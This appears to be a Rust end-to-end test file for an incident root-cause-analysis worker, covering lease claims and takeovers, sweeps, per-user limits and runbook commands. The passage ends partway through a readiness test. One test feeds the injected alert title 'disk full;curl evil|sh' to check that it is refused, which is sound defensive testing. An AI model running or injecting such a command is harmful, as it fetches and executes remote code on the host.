//! The correlator's alert lifecycle and the RCA worker's claim, leases and sweeps, called
//! directly; and the RCA worker's run loop over the harness' streams, for a burst that waits.

use aurora_db::{alerts, analysis, events, incidents};
use aurora_domain::SourceType;
use aurora_e2e::harness::{Harness, TestAlert};
use aurora_rca_worker::{InvestigationOutcome, expiry, lease};

/// A sweeper over `investigator`'s pool whose takeovers may hold `slots` at once.
fn sweeper(investigator: &aurora_rca_worker::Investigator, slots: usize) -> expiry::Sweeper {
    expiry::Sweeper::new(
        investigator.clone(),
        std::sync::Arc::new(tokio::sync::Semaphore::new(slots)),
    )
}

/// Every lease in the test database was last renewed a minute earlier: their workers died.
async fn let_leases_lapse(conn: &mut aurora_db::AsyncPgConnection) {
    diesel_async::RunQueryDsl::execute(
        diesel::sql_query(
            "UPDATE analysis_claims SET renewed_at = renewed_at - interval '1 minute'",
        ),
        conn,
    )
    .await
    .unwrap();
}

/// Claims an idle incident's analysis as a worker would (per-user limit 3); its lease.
async fn claim_idle(
    conn: &mut aurora_db::AsyncPgConnection,
    incident_id: uuid::Uuid,
) -> analysis::Lease {
    let analysis::Claim::Claimed(_, lease) = analysis::claim(conn, incident_id, 3, lease::LEASE)
        .await
        .unwrap()
    else {
        panic!("an idle analysis is claimed");
    };
    lease
}

/// The built-in analyst with these runbooks (commands up to a minute, four at once).
fn analyst_with(runbooks: Vec<aurora_settings::Runbook>) -> aurora_rca_worker::Analyst {
    let limits = aurora_settings::CommandLimits {
        timeout_secs: 60,
        output_cap_bytes: 65536,
        max_concurrent: 4,
        env_allowlist: vec!["PATH".into()],
    };
    aurora_rca_worker::Analyst {
        commands: aurora_rca_worker::commands::CommandRunner::new(runbooks, limits),
        ..aurora_rca_worker::Analyst::builtin()
    }
}

fn disk_full() -> TestAlert {
    TestAlert::firing(
        SourceType::Alertmanager,
        "disk-full-db-1",
        "postgres",
        "DiskFull",
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_resolve_for_an_alert_never_seen_is_kept_but_opens_nothing() {
    let h = Harness::new().await;
    let outcome = h.send(&disk_full().resolved()).await;
    assert!(outcome.opened_incidents.is_empty());
    let again = h.handle(&h.batch(&[disk_full().resolved()])).await;
    assert_eq!(
        again.alerts, outcome.alerts,
        "the resolve of a resolved alert is counted on it"
    );
    let mut conn = h.db.connect().await;
    let alert = alerts::get(&mut conn, again.alerts[0]).await.unwrap();
    assert_eq!(
        (alert.status.as_str(), alert.incident_id),
        ("resolved", None)
    );
    assert!(h.incidents().await.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_workers_racing_for_one_incident_analyse_it_once() {
    let h = Harness::new().await;
    let incident_id = h.send(&disk_full()).await.opened_incidents[0];
    let first = h.investigator(aurora_rca_worker::Analyst::builtin());
    let second = h.investigator(aurora_rca_worker::Analyst::builtin());
    let (a, b) = tokio::join!(
        first.investigate(incident_id),
        second.investigate(incident_id)
    );
    let mut outcomes = [a.unwrap(), b.unwrap()];
    outcomes.sort_by_key(|o| *o == InvestigationOutcome::AlreadyClaimed);
    assert_eq!(
        outcomes,
        [
            InvestigationOutcome::Completed,
            InvestigationOutcome::AlreadyClaimed
        ]
    );

    let mut conn = h.db.connect().await;
    let incident = incidents::get(&mut conn, incident_id).await.unwrap();
    assert_eq!(incident.aurora_status.as_deref(), Some("complete"));
    let thoughts = analysis::thoughts(&mut conn, incident_id).await.unwrap();
    let conclusions = thoughts.iter().filter(|t| t.kind == "conclusion").count();
    assert_eq!(
        conclusions, 1,
        "one analysis' thoughts, not two: {thoughts:?}"
    );
    assert_eq!(incident.status, "analyzed");
    let kinds: Vec<_> = events::for_incident(&mut conn, incident_id)
        .await
        .unwrap()
        .into_iter()
        .map(|e| e.kind)
        .collect();
    assert_eq!(kinds, ["created", "analysis_started", "analysis_completed"]);
    // A redelivered event later finds the work done.
    assert_eq!(
        first.investigate(incident_id).await.unwrap(),
        InvestigationOutcome::AlreadyClaimed
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_analysis_whose_worker_died_is_taken_over_and_completed_once() {
    let h = Harness::new().await;
    let incident_id = h.send(&disk_full()).await.opened_incidents[0];
    let mut conn = h.db.connect().await;
    // A worker claims the analysis, writes a thought, and is killed (it never renews).
    let first_lease = claim_idle(&mut conn, incident_id).await;
    analysis::add_thought(&mut conn, incident_id, "observation", "half-way")
        .await
        .unwrap();
    let investigator = h.investigator(aurora_rca_worker::Analyst::builtin());
    let mut sweeper = sweeper(&investigator, 4);
    // While its lease holds, nobody else takes it: not a redelivery, not a sweep.
    assert_eq!(
        investigator.investigate(incident_id).await.unwrap(),
        InvestigationOutcome::AlreadyClaimed
    );
    assert_eq!(sweeper.take_over_lapsed().await, Ok(0));

    // The killed worker's own completion, had it come back, would now write nothing.
    let analysis::Claim::TakenOver(_, _) = ({
        let_leases_lapse(&mut conn).await;
        analysis::claim(&mut conn, incident_id, 3, lease::LEASE)
            .await
            .unwrap()
    }) else {
        panic!("a lapsed lease is taken over");
    };
    assert!(
        analysis::complete(&mut conn, first_lease, "stale")
            .await
            .unwrap()
            .is_none(),
        "the attempt that lost the claim cannot complete"
    );
    // That takeover, too, dies at once: the next sweep takes the analysis over and completes it.
    let_leases_lapse(&mut conn).await;
    assert_eq!(sweeper.take_over_lapsed().await, Ok(1));
    sweeper.finish().await;
    assert_eq!(
        incidents::get(&mut conn, incident_id)
            .await
            .unwrap()
            .aurora_status
            .as_deref(),
        Some("complete")
    );
    let thoughts = analysis::thoughts(&mut conn, incident_id).await.unwrap();
    assert!(
        thoughts
            .iter()
            .any(|t| t.content.contains("stopped renewing its claim")),
        "the takeover is told: {thoughts:?}"
    );
    let kinds: Vec<_> = events::for_incident(&mut conn, incident_id)
        .await
        .unwrap()
        .into_iter()
        .map(|e| e.kind)
        .collect();
    assert_eq!(
        kinds.iter().filter(|k| *k == "analysis_completed").count(),
        1,
        "{kinds:?}"
    );
    // Done is done: a late redelivery, long after the last renewal, and the next sweep leave
    // it alone.
    let_leases_lapse(&mut conn).await;
    assert_eq!(
        investigator.investigate(incident_id).await.unwrap(),
        InvestigationOutcome::AlreadyClaimed
    );
    assert_eq!(sweeper.take_over_lapsed().await, Ok(0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn takeovers_wait_for_a_free_slot_and_are_finished_before_the_sweeps_stop() {
    let h = Harness::new().await;
    let mut conn = h.db.connect().await;
    let mut lapsed = Vec::new();
    for (fingerprint, environment) in [
        ("disk-a", "env-a"),
        ("disk-b", "env-b"),
        ("disk-c", "env-c"),
    ] {
        let alert = TestAlert::firing(
            SourceType::Alertmanager,
            fingerprint,
            "postgres",
            "DiskFull",
        )
        .in_environment(Some(environment));
        let incident_id = h.send(&alert).await.opened_incidents[0];
        // Claimed by a worker that was then killed.
        assert!(matches!(
            analysis::claim(&mut conn, incident_id, 3, lease::LEASE)
                .await
                .unwrap(),
            analysis::Claim::Claimed(..)
        ));
        lapsed.push(incident_id);
    }
    let_leases_lapse(&mut conn).await;
    // Each takeover takes a second (its runbook command), and the worker has one slot.
    let investigator = h.investigator(analyst_running(&h, &[&["sleep", "1"]]));
    let slots = std::sync::Arc::new(tokio::sync::Semaphore::new(1));
    let mut sweeper = expiry::Sweeper::new(investigator, std::sync::Arc::clone(&slots));
    assert_eq!(sweeper.take_over_lapsed().await, Ok(1));
    assert_eq!(
        sweeper.take_over_lapsed().await,
        Ok(0),
        "the others wait for a free slot"
    );
    // Told to stop, the sweeps end only once the takeover they began has finished.
    let shutdown = tokio_util::sync::CancellationToken::new();
    shutdown.cancel();
    expiry::run(sweeper, shutdown).await;
    assert_eq!(slots.available_permits(), 1);
    let mut statuses = Vec::new();
    for incident_id in &lapsed {
        let incident = incidents::get(&mut conn, *incident_id).await.unwrap();
        statuses.push(incident.aurora_status.unwrap());
    }
    statuses.sort();
    assert_eq!(statuses, ["complete", "running", "running"]);
}

/// A claim's `claimed_at` and `renewed_at`, and the database's `now()`, read together.
async fn lease_stamps(
    conn: &mut aurora_db::AsyncPgConnection,
    incident_id: uuid::Uuid,
) -> (
    chrono::NaiveDateTime,
    chrono::NaiveDateTime,
    chrono::NaiveDateTime,
) {
    use aurora_db::schema::analysis_claims;
    use diesel::prelude::*;
    diesel_async::RunQueryDsl::get_result(
        analysis_claims::table.find(incident_id).select((
            analysis_claims::claimed_at,
            analysis_claims::renewed_at,
            diesel::dsl::now,
        )),
        conn,
    )
    .await
    .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn leases_are_stamped_and_judged_by_the_databases_clock_alone() {
    use aurora_db::AsyncConnection;
    let h = Harness::new().await;
    let incident_id = h.send(&disk_full()).await.opened_incidents[0];
    let mut conn = h.db.connect().await;
    // Stamped by PostgreSQL: inside one transaction a claim's and a renewal's times are that
    // transaction's `now()` to the microsecond, which no reading of a worker's clock would be.
    let lease = conn
        .transaction(async |conn| {
            let analysis::Claim::Claimed(_, lease) =
                analysis::claim(conn, incident_id, 3, lease::LEASE).await?
            else {
                panic!("an idle analysis is claimed");
            };
            let (claimed_at, renewed_at, now) = lease_stamps(conn, incident_id).await;
            assert_eq!((claimed_at, renewed_at), (now, now));
            Ok::<_, aurora_db::QueryError>(lease)
        })
        .await
        .unwrap();
    conn.transaction(async |conn| {
        diesel_async::RunQueryDsl::execute(
            diesel::sql_query(
                "UPDATE analysis_claims SET renewed_at = renewed_at - interval '1 hour'",
            ),
            &mut *conn,
        )
        .await?;
        assert!(analysis::renew(conn, lease).await?);
        let (_, renewed_at, now) = lease_stamps(conn, incident_id).await;
        assert_eq!(renewed_at, now);
        Ok::<_, aurora_db::QueryError>(())
    })
    .await
    .unwrap();

    // Judged by PostgreSQL: the API takes a lease's length, never a caller's "now". Renewed
    // 10 s ago by the database's clock, a 15 s lease is live for every worker, whatever time
    // that worker's own clock shows; a 5 s one would have lapsed.
    diesel_async::RunQueryDsl::execute(
        diesel::sql_query("UPDATE analysis_claims SET renewed_at = now() - interval '10 seconds'"),
        &mut conn,
    )
    .await
    .unwrap();
    assert!(
        analysis::lapsed_leases(&mut conn, lease::LEASE, 10)
            .await
            .unwrap()
            .is_empty()
    );
    assert!(matches!(
        analysis::claim(&mut conn, incident_id, 3, lease::LEASE)
            .await
            .unwrap(),
        analysis::Claim::AlreadyClaimed
    ));
    assert_eq!(
        analysis::lapsed_leases(&mut conn, std::time::Duration::from_secs(5), 10)
            .await
            .unwrap(),
        [incident_id]
    );
}

/// An analyst with one runbook of the harness' user for disk alerts, running `commands`.
fn analyst_running(h: &Harness, commands: &[&[&str]]) -> aurora_rca_worker::Analyst {
    analyst_with(vec![disk_runbook("disk checks", h.user.as_str(), commands)])
}

/// A runbook of `user` for disk alerts, running `commands`.
fn disk_runbook(name: &str, user: &str, commands: &[&[&str]]) -> aurora_settings::Runbook {
    aurora_settings::Runbook::try_from(aurora_settings::RunbookSpec {
        name: name.into(),
        user: user.into(),
        match_terms: vec!["disk".into()],
        commands: commands
            .iter()
            .map(|argv| argv.iter().map(|arg| (*arg).to_owned()).collect())
            .collect(),
        ..Default::default()
    })
    .unwrap()
}

/// Waits until the incident has a thought starting with `start`.
async fn thought_appears(h: &Harness, incident_id: uuid::Uuid, start: &str) {
    let pool = h.db.pool();
    aurora_e2e::eventually(start, std::time::Duration::from_secs(10), || {
        let pool = pool.clone();
        async move {
            let mut conn = pool.get().await.ok()?;
            let thoughts = analysis::thoughts(&mut conn, incident_id).await.ok()?;
            thoughts
                .iter()
                .any(|t| t.content.starts_with(start))
                .then_some(())
        }
    })
    .await;
}

/// Another worker takes the analysis over, as after a lapse of the first worker's lease;
/// answers the last thought written before.
async fn another_worker_takes_over(
    conn: &mut aurora_db::AsyncPgConnection,
    incident_id: uuid::Uuid,
) -> i64 {
    let last = analysis::thoughts(conn, incident_id)
        .await
        .unwrap()
        .last()
        .map_or(0, |t| t.id);
    let_leases_lapse(conn).await;
    assert!(matches!(
        analysis::claim(conn, incident_id, 3, lease::LEASE)
            .await
            .unwrap(),
        analysis::Claim::TakenOver(..)
    ));
    last
}

/// What the first worker wrote after the takeover: thoughts past `last`, and command runs.
async fn written_after(
    conn: &mut aurora_db::AsyncPgConnection,
    incident_id: uuid::Uuid,
    last: i64,
) -> (Vec<String>, usize) {
    let thoughts = analysis::thoughts(conn, incident_id)
        .await
        .unwrap()
        .into_iter()
        .filter(|t| t.id > last)
        .map(|t| t.content)
        .collect();
    let runs = analysis::command_runs(conn, incident_id).await.unwrap();
    (thoughts, runs.len())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_worker_that_lost_its_lease_writes_nothing_more_and_starts_no_command() {
    let h = Harness::new().await;
    let incident_id = h.send(&disk_full()).await.opened_incidents[0];
    let investigator = h.investigator(analyst_running(
        &h,
        &[&["sleep", "2"], &["echo", "second command"]],
    ));
    let attempt = tokio::spawn(async move { investigator.investigate(incident_id).await });
    thought_appears(&h, incident_id, "Running `sleep 2`").await;
    let mut conn = h.db.connect().await;
    let last = another_worker_takes_over(&mut conn, incident_id).await;
    // Its command ends before its next renewal would notice; the database refuses the run's
    // record, and the attempt stops there.
    assert_eq!(
        attempt.await.unwrap().unwrap(),
        InvestigationOutcome::Stopped
    );
    assert_eq!(
        written_after(&mut conn, incident_id, last).await,
        (vec![], 0),
        "nothing written by the attempt that lost its lease"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_worker_that_lost_its_lease_stops_its_running_command_at_the_next_renewal() {
    let h = Harness::new().await;
    let incident_id = h.send(&disk_full()).await.opened_incidents[0];
    let investigator = h.investigator(analyst_running(&h, &[&["sleep", "30"]]));
    let started = std::time::Instant::now();
    let attempt = tokio::spawn(async move { investigator.investigate(incident_id).await });
    thought_appears(&h, incident_id, "Running `sleep 30`").await;
    let mut conn = h.db.connect().await;
    let last = another_worker_takes_over(&mut conn, incident_id).await;
    // The next renewal (every 5 s) finds the lease lost: the command is killed, not waited for.
    let outcome = tokio::time::timeout(std::time::Duration::from_secs(15), attempt)
        .await
        .expect("the attempt stops well before its 30 s command would end")
        .unwrap()
        .unwrap();
    assert_eq!(outcome, InvestigationOutcome::Stopped);
    assert!(started.elapsed() < std::time::Duration::from_secs(15));
    assert_eq!(
        written_after(&mut conn, incident_id, last).await,
        (vec![], 0)
    );
    // The incident is the other worker's to finish.
    assert_eq!(
        incidents::get(&mut conn, incident_id)
            .await
            .unwrap()
            .aurora_status
            .as_deref(),
        Some("running")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn renewals_never_wait_behind_analyses_for_a_connection() {
    let h = Harness::new().await;
    let incident_id = h.send(&disk_full()).await.opened_incidents[0];
    // The analyses' pool is one connection, which the analysis holds while its command runs:
    // a renewal taking its connection from that pool would wait and fail.
    let busy = aurora_db::pool::build(
        h.db.url(),
        aurora_db::pool::PoolOptions {
            max_size: 1,
            statement_timeout: std::time::Duration::from_secs(10),
            application_name: "aurora-test-analyses".to_owned(),
            timeout: std::time::Duration::from_secs(1),
        },
    )
    .unwrap();
    let investigator = aurora_rca_worker::Investigator::new(
        busy,
        h.db.pool(),
        h.bus.bus.clone(),
        std::sync::Arc::new(analyst_running(&h, &[&["sleep", "8"]])),
    );
    let attempt = tokio::spawn(async move { investigator.investigate(incident_id).await });
    let pool = h.db.pool();
    aurora_e2e::eventually(
        "a renewal while the analysis runs",
        std::time::Duration::from_secs(8),
        || {
            let pool = pool.clone();
            async move {
                use aurora_db::schema::analysis_claims;
                use diesel::prelude::*;
                let mut conn = pool.get().await.ok()?;
                let (claimed_at, renewed_at): (chrono::NaiveDateTime, chrono::NaiveDateTime) =
                    diesel_async::RunQueryDsl::get_result(
                        analysis_claims::table
                            .find(incident_id)
                            .select((analysis_claims::claimed_at, analysis_claims::renewed_at)),
                        &mut conn,
                    )
                    .await
                    .ok()?;
                let running = incidents::get(&mut conn, incident_id)
                    .await
                    .ok()?
                    .aurora_status
                    .as_deref()
                    == Some("running");
                (running && renewed_at > claimed_at).then_some(())
            }
        },
    )
    .await;
    assert_eq!(
        attempt.await.unwrap().unwrap(),
        InvestigationOutcome::Completed
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_merge_stops_the_sources_running_analysis() {
    let h = Harness::new().await;
    let target = h.send(&disk_full()).await.opened_incidents[0];
    let other = TestAlert::firing(SourceType::Grafana, "search-lag", "search", "Index lag");
    let source = h.send(&other).await.opened_incidents[0];
    let mut conn = h.db.connect().await;
    // A worker is mid-analysis on the source.
    let source_lease = claim_idle(&mut conn, source).await;
    let (target_row, source_row) = (
        incidents::get(&mut conn, target).await.unwrap(),
        incidents::get(&mut conn, source).await.unwrap(),
    );
    let (merged_target, merged_source) = aurora_db::merge::merge(
        &mut conn,
        &target_row,
        &source_row,
        "test",
        aurora_db::time::now(),
    )
    .await
    .unwrap();
    assert_eq!(
        (
            merged_source.status.as_str(),
            merged_source.aurora_status.as_deref()
        ),
        ("merged", Some("error"))
    );
    assert_eq!(merged_source.merged_into_incident_id, Some(target));
    assert_eq!(merged_target.correlated_alert_count, 1);
    assert_eq!(merged_target.affected_services, ["postgres", "search"]);
    // The worker's completion finds its analysis stopped and writes nothing over it.
    assert!(
        analysis::complete(&mut conn, source_lease, "late summary")
            .await
            .unwrap()
            .is_none()
    );
    assert_eq!(
        incidents::get(&mut conn, source)
            .await
            .unwrap()
            .aurora_summary,
        None
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_alert_correlating_after_the_analysis_adds_a_follow_up_thought() {
    let h = Harness::new().await;
    let incident_id = h.send(&disk_full()).await.opened_incidents[0];
    let investigator = h.investigator(aurora_rca_worker::Analyst::builtin());
    assert_eq!(
        investigator.investigate(incident_id).await.unwrap(),
        InvestigationOutcome::Completed
    );
    let later = TestAlert::firing(
        SourceType::Grafana,
        "pg-wal",
        "postgres",
        "WAL volume 98% full",
    );
    assert!(
        h.send(&later).await.opened_incidents.is_empty(),
        "it joins the analysed incident"
    );
    let mut conn = h.db.connect().await;
    let thoughts = analysis::thoughts(&mut conn, incident_id).await.unwrap();
    let last = thoughts.last().unwrap();
    assert_eq!(last.kind, "follow_up");
    assert!(last.content.starts_with("Follow-up: \"WAL volume 98% full\" from Grafana correlated after the analysis (same service postgres"), "{}", last.content);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_alert_joining_while_the_analysis_runs_is_read_into_it() {
    let h = Harness::new().await;
    let incident_id = h.send(&disk_full()).await.opened_incidents[0];
    // The runbook's command holds the analysis until the test opens the gate, after the alert
    // joined.
    let gate = std::env::temp_dir().join(format!("aurora-gate-{incident_id}"));
    let wait = format!("until [ -e {} ]; do sleep 0.05; done", gate.display());
    let analyst = analyst_with(vec![disk_runbook(
        "slow look",
        &h.user.to_string(),
        &[&["sh", "-c", &wait]],
    )]);
    let investigator = h.investigator(analyst);
    let running = tokio::spawn(async move { investigator.investigate(incident_id).await });
    let mut conn = h.db.connect().await;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !analysis::thoughts(&mut conn, incident_id)
        .await
        .unwrap()
        .iter()
        .any(|t| t.content.starts_with("Running `sh -c until"))
    {
        assert!(
            std::time::Instant::now() < deadline,
            "the command never started"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let joining = TestAlert::firing(
        SourceType::Grafana,
        "pg-replica",
        "postgres",
        "PostgreSQL replication lag 300s",
    );
    assert!(
        h.send(&joining).await.opened_incidents.is_empty(),
        "it joins the incident"
    );
    std::fs::write(&gate, "").unwrap();
    assert_eq!(
        running.await.unwrap().unwrap(),
        InvestigationOutcome::Completed
    );
    std::fs::remove_file(&gate).unwrap();

    let thoughts = analysis::thoughts(&mut conn, incident_id).await.unwrap();
    let said = |start: &str| thoughts.iter().any(|t| t.content.starts_with(start));
    assert!(
        said(
            "Follow-up: \"PostgreSQL replication lag 300s\" from Grafana correlated while the analysis ran"
        ),
        "{thoughts:#?}"
    );
    assert!(
        said(
            "1 alert(s) joined the incident while the analysis ran: \"PostgreSQL replication lag 300s\""
        ),
        "{thoughts:#?}"
    );
    // The analyst ranked with it: its pattern is among the hypotheses.
    assert!(
        said("This looks like database replication lag (replication-lag)"),
        "{thoughts:#?}"
    );
    let summary = incidents::get(&mut conn, incident_id)
        .await
        .unwrap()
        .aurora_summary
        .unwrap();
    assert!(
        summary.contains("1 more alert(s) correlated with it."),
        "{summary}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_disk_alert_with_a_df_runbook_cites_the_command_output() {
    let h = Harness::new().await;
    let incident_id = h.send(&disk_full()).await.opened_incidents[0];
    let runbooks = vec![
        aurora_settings::Runbook::try_from(aurora_settings::RunbookSpec {
            name: "disk usage".into(),
            user: h.user.to_string(),
            match_terms: vec!["disk".into()],
            pattern: Some("disk-exhaustion".into()),
            commands: vec![
                vec!["df".into(), "-h".into(), "/".into()],
                vec!["echo".into(), "{labels.instance}".into()],
            ],
            ..Default::default()
        })
        .unwrap(),
    ];
    let analyst = analyst_with(runbooks);
    let investigator = h.investigator(analyst);
    assert_eq!(
        investigator.investigate(incident_id).await.unwrap(),
        InvestigationOutcome::Completed
    );

    let mut conn = h.db.connect().await;
    let runs = analysis::command_runs(&mut conn, incident_id)
        .await
        .unwrap();
    assert_eq!(runs.len(), 1, "the placeholder without a value was refused");
    assert_eq!(
        (runs[0].argv.clone(), runs[0].exit_code),
        (
            vec!["df".to_owned(), "-h".to_owned(), "/".to_owned()],
            Some(0)
        )
    );
    assert!(runs[0].output.contains("Filesystem"), "{}", runs[0].output);
    let thoughts = analysis::thoughts(&mut conn, incident_id).await.unwrap();
    assert!(thoughts.iter().any(|t| {
        t.content
            .starts_with("Did not run `echo {labels.instance}`")
            && t.content.contains("no value")
    }));
    let summary = incidents::get(&mut conn, incident_id)
        .await
        .unwrap()
        .aurora_summary
        .unwrap();
    let cause = summary.split("## Likely root cause").nth(1).unwrap();
    assert!(
        cause
            .trim_start()
            .starts_with("1. Logs, temporary files or database WAL are filling the volume"),
        "{summary}"
    );
    assert!(
        summary.contains("- command `df -h /` (exit 0): Filesystem"),
        "{summary}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_users_runbook_never_runs_for_an_incident() {
    let h = Harness::new().await;
    let mut conn = h.db.connect().await;
    let other = aurora_db::users::create(&mut conn, "other").await.unwrap();
    let incident_id = h.send(&disk_full()).await.opened_incidents[0];
    let analyst = analyst_with(vec![disk_runbook(
        "their disk usage",
        &other.user.id,
        &[&["df", "-h", "/"]],
    )]);
    assert_eq!(
        h.investigator(analyst)
            .investigate(incident_id)
            .await
            .unwrap(),
        InvestigationOutcome::Completed
    );
    let runs = analysis::command_runs(&mut conn, incident_id)
        .await
        .unwrap();
    assert!(runs.is_empty(), "{runs:?}");
    let thoughts = analysis::thoughts(&mut conn, incident_id).await.unwrap();
    assert!(
        !thoughts
            .iter()
            .any(|t| t.content.contains("their disk usage")),
        "not even refused: it is not this user's"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_alert_value_is_refused_by_its_placeholder_pattern_and_never_runs() {
    let h = Harness::new().await;
    let hostile = TestAlert::firing(
        SourceType::Alertmanager,
        "disk-hostile",
        "postgres",
        "disk full;curl evil|sh",
    );
    let incident_id = h.send(&hostile).await.opened_incidents[0];
    let analyst = analyst_with(vec![disk_runbook(
        "echo title",
        h.user.as_str(),
        &[&["echo", "{title}"]],
    )]);
    assert_eq!(
        h.investigator(analyst)
            .investigate(incident_id)
            .await
            .unwrap(),
        InvestigationOutcome::Completed
    );
    let mut conn = h.db.connect().await;
    let runs = analysis::command_runs(&mut conn, incident_id)
        .await
        .unwrap();
    assert!(runs.is_empty(), "{runs:?}");
    let thoughts = analysis::thoughts(&mut conn, incident_id).await.unwrap();
    assert!(
        thoughts.iter().any(|t| t.content
            == "Did not run `echo {title}` (runbook echo title): the value of `{title}`, \"disk full;curl evil|sh\", does not match its pattern `[A-Za-z0-9._:/-]{1,253}`."),
        "{:?}",
        thoughts.iter().map(|t| &t.content).collect::<Vec<_>>()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn analyses_wait_when_a_user_has_too_many_running_and_stop_past_their_budget() {
    let h = Harness::new().await;
    let first = h.send(&disk_full()).await.opened_incidents[0];
    let second = h
        .send(&TestAlert::firing(
            SourceType::Grafana,
            "lag",
            "search",
            "Index lag",
        ))
        .await
        .opened_incidents[0];
    let mut conn = h.db.connect().await;
    // A worker died mid-analysis on the first incident.
    assert!(matches!(
        analysis::claim(&mut conn, first, 1, lease::LEASE)
            .await
            .unwrap(),
        analysis::Claim::Claimed(..)
    ));
    let analyst = aurora_rca_worker::Analyst {
        max_concurrent_per_user: 1,
        claim_idle_after_secs: 0,
        ..aurora_rca_worker::Analyst::builtin()
    };
    let investigator = h.investigator(analyst);
    // Waiting is no failure (the event is acked): the incident is left for the sweeps.
    assert_eq!(
        investigator.investigate(second).await.unwrap(),
        InvestigationOutcome::Waiting
    );
    assert_eq!(
        incidents::get(&mut conn, second)
            .await
            .unwrap()
            .aurora_status
            .as_deref(),
        Some("idle"),
        "left for later"
    );
    let mut sweeps = sweeper(&investigator, 4);
    assert_eq!(
        sweeps.claim_waiting().await,
        Ok(0),
        "its user has no free slot yet"
    );
    let analyst = aurora_rca_worker::Analyst {
        analysis_budget_secs: 0,
        ..aurora_rca_worker::Analyst::builtin()
    };
    assert_eq!(
        sweeper(&h.investigator(analyst), 4).expire().await.unwrap(),
        1
    );
    let stopped = incidents::get(&mut conn, first).await.unwrap();
    assert_eq!(stopped.aurora_status.as_deref(), Some("error"));
    let thoughts = analysis::thoughts(&mut conn, first).await.unwrap();
    assert_eq!(
        thoughts.last().unwrap().content,
        "The analysis ran past its 0 s time budget and was stopped."
    );
    // The user's slot is free again: the next sweep claims the waiting incident.
    assert_eq!(sweeps.claim_waiting().await, Ok(1));
    sweeps.finish().await;
    assert_eq!(
        incidents::get(&mut conn, second)
            .await
            .unwrap()
            .aurora_status
            .as_deref(),
        Some("complete")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_burst_past_a_users_limit_is_all_analysed_and_waiting_is_no_failed_delivery() {
    const BURST: [(&str, &str); 6] = [
        ("disk-1", "env-1"),
        ("disk-2", "env-2"),
        ("disk-3", "env-3"),
        ("disk-4", "env-4"),
        ("disk-5", "env-5"),
        ("disk-6", "env-6"),
    ];
    let h = Harness::new().await;
    // Slow analyses (a one-second command each), two at most at once for the user: four of
    // the six must wait for a slot.
    let analyst = aurora_rca_worker::Analyst {
        max_concurrent_per_user: 2,
        claim_idle_after_secs: 1,
        ..analyst_running(&h, &[&["sleep", "1"]])
    };
    let shutdown = tokio_util::sync::CancellationToken::new();
    let worker = tokio::spawn(aurora_rca_worker::run(
        aurora_runtime::Connections::new(h.db.pool(), h.bus.bus.clone()),
        h.db.pool(),
        std::sync::Arc::new(analyst),
        shutdown.clone(),
    ));
    let mut burst = Vec::new();
    for (fingerprint, environment) in BURST {
        let alert = TestAlert::firing(
            SourceType::Alertmanager,
            fingerprint,
            "postgres",
            "DiskFull",
        )
        .in_environment(Some(environment));
        burst.push(h.send(&alert).await.opened_incidents[0]);
    }
    let pool = h.db.pool();
    aurora_e2e::eventually(
        "every incident of the burst analysed",
        std::time::Duration::from_secs(60),
        || {
            let (pool, burst) = (pool.clone(), burst.clone());
            async move {
                let mut conn = pool.get().await.ok()?;
                for incident_id in burst {
                    let incident = incidents::get(&mut conn, incident_id).await.ok()?;
                    if incident.aurora_status.as_deref() != Some("complete") {
                        return None;
                    }
                }
                Some(())
            }
        },
    )
    .await;
    let mut conn = h.db.connect().await;
    assert!(
        aurora_db::dead_letters::list(&mut conn, 10)
            .await
            .unwrap()
            .is_empty(),
        "waiting set nothing aside"
    );
    // Each event was delivered once and acked: waiting spent none of the retry budget.
    let topology = h.bus.bus.topology();
    let mut consumer: async_nats::jetstream::consumer::PullConsumer = h
        .bus
        .bus
        .jetstream()
        .get_stream(topology.incidents_stream())
        .await
        .unwrap()
        .get_consumer(aurora_bus::Topology::RCA_WORKER)
        .await
        .unwrap();
    let info = consumer.info().await.unwrap();
    assert_eq!(
        (info.delivered.consumer_sequence, info.num_ack_pending),
        (BURST.len() as u64, 0),
        "no event of the burst was redelivered"
    );
    shutdown.cancel();
    worker.await.unwrap().unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_worker_that_cannot_reach_postgres_for_long_reports_not_live() {
    let bus = aurora_testkit::TestBus::new().await;
    // Nothing listens on port 1: every connection attempt fails at once.
    let pool = aurora_db::pool::build(
        "postgres://postgres@127.0.0.1:1/none",
        aurora_db::pool::PoolOptions {
            max_size: 1,
            statement_timeout: std::time::Duration::from_secs(1),
            application_name: "aurora-test-unreachable".to_owned(),
            timeout: std::time::Duration::from_millis(200),
        },
    )
    .unwrap();
    let limit = std::time::Duration::from_millis(300);
    let readiness = aurora_runtime::Readiness::new(pool.clone(), bus.bus.clone())
        .with_database_liveness(pool.clone(), limit);
    assert!(readiness.check_alive().await.is_ok(), "not for long yet");
    assert_eq!(readiness.check().await, Err("postgres"));
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let reason = loop {
        match readiness.check_alive().await {
            Err(reason) => break reason,
            Ok(()) => assert!(
                std::time::Instant::now() < deadline,
                "never reported not live"
            ),
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    assert!(reason.contains("postgres unreachable"), "{reason}");
    // The ingress' probe (no database liveness) stays alive, and ready, through the same
    // outage: it serves the tokens it knows.
